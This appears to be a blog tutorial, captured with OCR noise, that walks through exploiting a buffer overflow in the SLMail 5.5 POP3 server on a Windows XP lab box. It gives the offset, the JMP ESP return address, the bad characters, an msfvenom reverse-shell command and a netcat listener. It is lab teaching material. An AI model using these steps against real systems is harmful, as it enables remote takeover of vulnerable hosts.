BUFFER OVERFLOW — Exploiting SLMail email server

The POP3 server of Seattle Lab Mail 5.5 suffers from an unauthenticated buffer overflow vulnerability when receiving a very long password. We can exploit this vulnerability in any version of Windows running the executable SLmail.exe.


  1. Spiking: A method that we use to find a vulnerable part of a program.
  2. Fuzing: We send a bunch of characters and see if we can break it.
  3. Finding the offset: If we break it we want to find out at what point we did break it. So we want to find the offset.
  4. Overwriting the EIP: We use the offset to overwrite the EIP, the pointer address we are talking about. If we have EIP control then we can follow the next step.
  5. Finding Bad Characters:
  6. Finding the Right Module.
  7. Generating ShellCode: Creating the malicious shellcode that gives us a reverse shell.
  8. Root!


  1. victim box: Windows XP
  2. Vulnerable software: SLmail
  3. Attacker machine: kali
  4. Debugger: Immunity Debugger

We start the service with administrative privileges.

Figure: 1

After running service we click on the start button.

Figure: 2We open the Immunity debugger and attach the SLmail service running on port 110.

Figure: 3
Figure: 4

Reference: https://www.immunityinc.com/products/debugger/


SLmail by default running on port 110. So we try to connect the service with netcat.We try to check where we can overwrite the stack of the victim with ‘A’ characters. We have to find a vulnerable part. So it looks like we can send the character in the password.

Figure: 5


We send a bunch of 2700 A’s characters.

Figure: 6

Our SLmail has been crashed. We hit a violation in the Immunity debugger.

  1. We sent a bunch of AAA’s, so this is going into buffer space and actually filled over.
  2. If we look at an EBP (base of register) 41414141 that is the HEX code for four A’s.
  3. If we can control EIP, we can get a malicious point. EIP is the most vital in this.
Figure: 7

Fuzzing crashed on 2700 bytes.

Finding the offset

# /usr/share/metasploit-framework/tools/exploit/pattern_create.rb -l 2700

We are going to get an EIP value. The program will crash and then the value in the EIP is going to come back.Figure: 8
Figure: 9

We have completely overwritten everything. We crossed the ESP and we got our EIP.

Figure: 10

EIP: 39694438

We will find a pattern offset if we did everything right. Somewhere inside the 2700 bites.

# /usr/share/metasploit-framework/tools/exploit/pattern_offset.rb -l 2700 -q 39694438
Figure: 11We have an exact offset match of 2606 bytes. This information is critical now that tells us at 2606 bytes we can control the EIP.

Overwriting the EIP

The offset was at 2606 bytes. This byte right before getting to the EIP. Now we will overwrite those 4 bytes.

We are replacing what we sent before to find the offset with the shellcode. The shellcode is nothing it’ is A’s and B’s now but it is going to give malicious.

In the below code, we are sending 2606 A’s because that’s where is EIP start. So bite 2607 starts the EIP. we are sending a bunch of A’s but we want to make sure that we don’t overwrite the EIP with A’s.
REMEMBER: A’s-41 & B’s-42

If we change the B to C or D it will give 434343 or 44444. But we are taking B so it will give 42424242.

Figure: 12

EBP: 41414141

EIP: 42424242

We sent four bytes of B’s. This means we can control the EIP now.

Figure: 13

Finding Bad Characters

We need to know thebad or good character before creating a shellcode. We check the hex dump.

Figure: 14

Right-click on ESP and follow dump.

Figure: 15

We will check until we find FF. If we have missed anything we have to remove a bad character from the code.

For example - If we see 10,11 and it goes to the 13 so,12 is missing. Here 12 is a bad character.

In our case x0a is a bad character because after 09 it shows 29. So, we have to remove x0a from our code and run the code again.

Figure: 16

Again, SLMail service is restarted and the process attached to Immunity Debugger. We run our code and find another bad character i.e. x0d. In the hex dump after 0C, it shows 0E instead of 0D. So, here x0d is a bad character.

Figure: 17

Only two bad characters we found \x0a & \x0d.

Finding the Right Module

We have to look at any .dll or something similar that has no memory protection. Means no ASLR, no Safe SEH.

We have to download the mona module. file: we copy mona.py and paste into C:\Program Files (x86)\Immunity Inc\Immunity Debugger\PyCommands folder.

Reference: https://github.com/corelan/mona

we have to type the mona module in the immunity tool. If welook at the protection setting. we can see it’s false false false false True. Our main file is SLMFC.dll. We will check the process of finding.

# !mona modules
Figure: 18

NASM shell: We are trying to convert assembly language into hex code. We will use JMP ESP, this is a jump command. We will use this as a pointer. The pointer is going tojump to our malicious shellcode.

Figure: 19

So the hex code equivalent of JMP ESP is FFE4.

# !mona find -s “\xff\xe4” -m SLMFC.DLL

We look at the address 5f4a358f
Message= 0x5f4a358f : “\xff\xe4” | {PAGE_READONLY} [SLMFC.DLL] ASLR: False, Rebase: False, SafeSEH: False, OS: True, v6.00.8063.0 (C:\WINDOWS\system32\SLMFC.DLL)

Figure: 20

we have written the return address into reverse. Like 0x5F4A358F into \x8f\x35\x4a\x5fFigure: 21

After entering the jump code we will find ffe4 and then enter the Fn + F2 key.

It turns into blue which means we have set a breakpoint. This means we are going to overflow the buffer but if we hit this specific spot this jump code. This actually breaks the program and pause right here for further instruction from us.

we are overwriting the EIP in the exact spot we need to and then we are able to jump forward.

We make sure immunity is running and then run our python code to see the output.

Figure: 22

Generating ShellCode

# msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=1234 EXITFUNC=thread -f c -a x86 -b “\x00\x0A\x0D”

payload: -p windows/shell_reverse_tcp
b) local host, attacker’s IP = LHOST =
c) local port, LPORT = 1234, where the attackerlistens for a shell reverse connection
d) format = -f c, language C
e) EXITFUNC = thread, the execution of the shellcode does not shutdown smail.exe
f) badcharacters = \x00\x0A\x0D

Figure: 23

we run our immunity tool in windows and then hit our python code.

#python exploit.py
Figure: 24
# rlwrap nc -lnvp 1234

We got our reverse shell.

Figure: 25

Reference: https://www.exploit-db.com/exploits/638

Thank you for reading my blog.



Get the Medium appA button that says 'Download on the App Store', and if clickedit will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store